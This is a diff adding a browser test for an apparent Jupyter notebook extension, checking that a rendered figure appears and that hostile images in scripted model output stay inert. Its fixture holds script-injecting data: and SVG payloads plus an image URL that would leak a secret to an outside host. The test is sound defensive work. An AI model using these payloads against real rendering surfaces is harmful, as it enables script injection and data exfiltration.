@@ -236,3 +236,58 @@ def test_the_branch_view_renders_in_notebook_7(lab_page, jupyter_server, page_lo
     page.locator(".lnb-view .lnb-entry", has_text="hello from notebook 7").wait_for(timeout=30_000)
     screenshot(page, "notebook7-branch-view")
     assert page_log.foreign() == []
+
+
+FIGURE = """\
+import matplotlib
+matplotlib.use("Agg")
+import matplotlib.pyplot as plt
+fig, ax = plt.subplots(figsize=(4, 3), dpi=50)
+ax.plot([1, 3, 2])
+plt.close(fig)
+"""
+
+# hostile images in model output: a data: URL that is not a raster image, an SVG that would
+# run script, and an image on the web (a leak if fetched)
+HOSTILE_IMAGES = (
+    "![page](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) "
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+"> '
+    "![chart](http://198.51.100.7/fig.png?k=secret)"
+)
+PAINTER = f"""\
+painter = iModel(provider="offline", model="scripted", responses=[{HOSTILE_IMAGES!r}] * 2)
+"""
+
+
+def test_a_turn_with_a_figure_shows_it_and_hostile_images_stay_inert(
+    lab_page, jupyter_server, page_log
+):
+    page = lab_page
+    cells = [
+        SETUP,
+        FIGURE,
+        PAINTER,
+        "%%lion -b fig -m painter\nWhat does {fig} show?",
+        "from lion_nb.notebook import current_session\n"
+        "BranchView(current_session().get_branch('fig'))",
+    ]
+    open_notebook(page, jupyter_server, "figure.ipynb", new_notebook(*cells))
+    run_all(page)
+    turn_image = cell_output(page, 3).locator(".lnb-turn img.lnb-attached-image")
+    turn_image.wait_for(timeout=30_000)
+    view_image = cell_output(page, 4).locator(".lnb-view img.lnb-attached-image")
+    view_image.wait_for(timeout=30_000)
+    for image in (turn_image, view_image):
+        assert image.get_attribute("src").startswith("data:image/png;base64,")
+        assert re.fullmatch(r"an image of \d+×\d+ pixels \(PNG\)", image.get_attribute("alt"))
+        assert image.evaluate("i => i.complete && i.naturalWidth > 0")  # it decoded and drew
+    page.wait_for_timeout(300)
+    probe = page.evaluate(
+        "() => ({pwned: window.pwned ?? null,"
+        " foreign: [...document.querySelectorAll('.jp-OutputArea img')].map(i => i.src)"
+        ".filter(s => !s.startsWith('data:image/png;base64,'))})"
+    )
+    assert probe == {"pwned": None, "foreign": []}
+    assert not [url for url in page_log.requests if "198.51.100.7" in url]
+    assert page_log.foreign() == []
+    screenshot(page, "lab-figure")
